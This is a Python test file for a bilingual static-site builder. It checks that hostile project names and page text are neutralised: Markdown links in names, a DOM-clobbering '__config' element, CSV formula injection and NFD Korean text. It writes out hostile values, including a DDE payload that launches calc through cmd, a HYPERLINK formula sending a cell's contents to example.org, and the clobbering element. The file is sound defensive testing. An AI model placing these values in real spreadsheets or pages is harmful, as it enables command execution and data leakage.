"""Hostile text that would not run a script but would change what a page says or does.

One build (no books) of the real content with a project named in Markdown
syntax in both languages, and a narrative that names an element ``__config``
(Material reads its settings from the first element with that id) built with
the checker bypassed, to show the sanitizer holds on its own.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest

from briefing.pipeline import Paths
from tests.bypass import build_unchecked
from tests.helpers import copy_project
from tests.html.elements import Elements
from tests.html.elements import parse as parse_page

PROJECT = "turkistan-highway"
MARKDOWN_NAME = (
    "Turkistan [official site](https://example.org) ![p](https://example.org/p.png) "
    "{ #__config } *x* `y` #"
)
FORMULA_SUMMARY = '=HYPERLINK("https://example.org/?"&A1,"Details")'
FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
NFC_NAME = "파블로다르 합금철 플랜트"
CLOBBER = '<div id="__config" hidden>{"base": "https://example.org", "search": "https://example.org/s.js"}</div>'


FIXTURE_TIERS = {"hostile": "build"}  # tests/conftest.py: the tier of a test using it


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Paths:
    root = copy_project(tmp_path_factory.mktemp("hostile-output"))
    projects = root / "data" / "projects.yaml"
    text = projects.read_text(encoding="utf-8")
    original = "name: {ko: 투르키스탄 고속도로 사업, en: Turkistan highway project}"
    assert original in text, "update the fixture: the project's name changed"
    quoted = json.dumps(MARKDOWN_NAME)
    text = text.replace(original, f"name: {{ko: {quoted}, en: {quoted}}}")
    summary = "en: A US$200 million ferroalloy plant in Pavlodar."
    assert summary in text, "update the fixture: the project's summary changed"
    text = text.replace(summary, f"en: {json.dumps(FORMULA_SUMMARY)} #", 1)
    text = text.replace("en: Pavlodar ferroalloy plant}", f"en: {json.dumps(FORMULA_NAME)}}}", 1)
    assert f"ko: {NFC_NAME}," in text, "update the fixture: the project's Korean name changed"
    text = text.replace(
        f"ko: {NFC_NAME},", f"ko: {unicodedata.normalize('NFD', NFC_NAME)},", 1
    )  # as a macOS editor may save it
    projects.write_text(text, encoding="utf-8")
    with (root / "content" / "en" / "about.md").open("a", encoding="utf-8") as about:
        about.write(f"\n{CLOBBER}\n")
    paths = Paths(root)
    build_unchecked(
        paths, books=False
    )  # the checker refuses the id (bad_inputs/id-reserved-by-the-theme.yaml)
    return paths


def parse(path: Path) -> Elements:
    return parse_page(path, ("title", "h1", "a", "td", "th", "li"))


def squeeze(text: str) -> str:
    return " ".join(text.replace("¶", "").split())


@pytest.mark.parametrize("lang", ["en", "ko"])
def test_a_name_in_markdown_syntax_is_shown_as_written(hostile: Paths, lang: str) -> None:
    page = parse(hostile.site_dir / lang / "projects" / PROJECT / "index.html")
    assert [squeeze(t) for t in page.texts["h1"]] == [MARKDOWN_NAME]
    assert squeeze(page.texts["title"][0]).startswith(MARKDOWN_NAME)
    index = parse(hostile.site_dir / lang / "projects" / "index.html")
    assert MARKDOWN_NAME in [squeeze(t) for t in index.texts["a"]], "the projects table's link text"
    for where in ("timeline", "organizations", "sources"):
        texts = parse(hostile.site_dir / lang / where / "index.html").texts
        assert not [
            t for t in texts.get("a", []) if "official site" in t and squeeze(t) != MARKDOWN_NAME
        ]


def test_no_page_links_fetches_or_names_an_element_from_a_name(hostile: Paths) -> None:
    for path in sorted(hostile.site_dir.rglob("*.html")):
        for tag, attrs in parse(path).tags:
            assert not (tag == "a" and attrs.get("href") == "https://example.org"), path
            assert not (tag == "img" and "example.org" in (attrs.get("src") or "")), path
            if attrs.get("id") == "__config":
                assert tag == "script", f"{path}: <{tag} id=__config>"


@pytest.mark.parametrize("lang", ["en", "ko"])
def test_the_name_reaches_search_as_text(hostile: Paths, lang: str) -> None:
    index = json.loads(
        (hostile.site_dir / lang / "search" / "search_index.json").read_text(encoding="utf-8")
    )
    titles = [d["title"] for d in index["docs"] if d["location"].startswith(f"projects/{PROJECT}/")]
    assert titles and all("&#" not in t and "\\" not in t for t in titles)
    assert any("[official site](https://example.org)" in t for t in titles)


def test_an_element_named_like_materials_settings_loses_its_id(hostile: Paths) -> None:
    """Material reads document.getElementById("__config"):
    the first such element must be its own script."""
    page = parse(hostile.site_dir / "en" / "about" / "index.html")
    named = [(tag, attrs) for tag, attrs in page.tags if attrs.get("id") == "__config"]
    assert named and named[0][0] == "script"
    assert len(named) == 1
    html = (hostile.site_dir / "en" / "about" / "index.html").read_text(encoding="utf-8")
    assert re.search(r'<div hidden="">\{"base": "https://example.org"', html), (
        "the narrative's element is kept, without its id"
    )


def test_every_id_materials_templates_use_is_in_the_reserved_namespace() -> None:
    """The checker and the sanitizer reserve ids starting with "__":
    Material's own must all start so."""
    import material

    from briefing.html.sanitize import ENGINE_ID_PREFIX as SANITIZER_PREFIX
    from briefing.inputs.markdown_checks import ENGINE_ID_PREFIX

    templates = Path(material.__file__).parent / "templates"
    ids = set()
    for path in templates.rglob("*.html"):
        ids |= set(re.findall(r'\bid="([^"{$]+)', path.read_text(encoding="utf-8")))
    nav = (templates / "partials" / "nav.html").read_text(encoding="utf-8") + (
        templates / "partials" / "nav-item.html"
    ).read_text(encoding="utf-8")
    assert len(ids) >= 8 and "__config" in ids and '"__nav' in nav
    assert ENGINE_ID_PREFIX == SANITIZER_PREFIX
    assert sorted(i for i in ids if not i.startswith(ENGINE_ID_PREFIX)) == []


def test_csv_cells_that_would_be_formulas_are_text(hostile: Paths) -> None:
    raw = (hostile.site_dir / "en" / "downloads" / "projects.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    plant = next(r for r in rows if r["ID"] == "pavlodar-ferroalloy-plant")
    assert plant["Summary"] == "'" + FORMULA_SUMMARY
    assert plant["Project"] == "'" + FORMULA_NAME
    assert plant["Project size (number)"] == "200000000"
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [
        cell
        for row in rows
        for key, cell in row.items()
        if key != "Project size (number)" and cell.startswith(starts)
    ]


@pytest.mark.parametrize(
    ("key", "value", "written"),
    [
        ("summary", "-2+3", "'-2+3"),
        ("summary", "+1", "'+1"),
        ("name", "\t=1", "'\t=1"),
        ("name", "\r=1", "'\r=1"),
        ("name", "a=1", "a=1"),
        ("size_value", "-5", "-5"),
        ("size_value", "1200000", "1200000"),
    ],
)
def test_a_csv_cell_is_neutralised_only_where_it_would_be_a_formula(
    key: str, value: str, written: str
) -> None:
    from briefing.views.opendata import csv_cell

    assert csv_cell(key, value) == written


def test_text_saved_decomposed_is_published_composed(hostile: Paths) -> None:
    """Korean in NFD (jamo) is read as NFC: the page shows, and search finds, the composed name."""
    page = parse(hostile.site_dir / "ko" / "projects" / "pavlodar-ferroalloy-plant" / "index.html")
    assert [squeeze(t) for t in page.texts["h1"]] == [NFC_NAME]
    index = (hostile.site_dir / "ko" / "search" / "search_index.json").read_text(encoding="utf-8")
    assert NFC_NAME in index
    jamo = re.compile("[\u1100-\u11ff]")
    for path in [
        *hostile.site_dir.joinpath("ko").rglob("*.html"),
        *hostile.site_dir.joinpath("ko").rglob("*.json"),
        *hostile.site_dir.joinpath("ko").rglob("*.csv"),
    ]:
        assert not jamo.search(path.read_text(encoding="utf-8-sig")), path
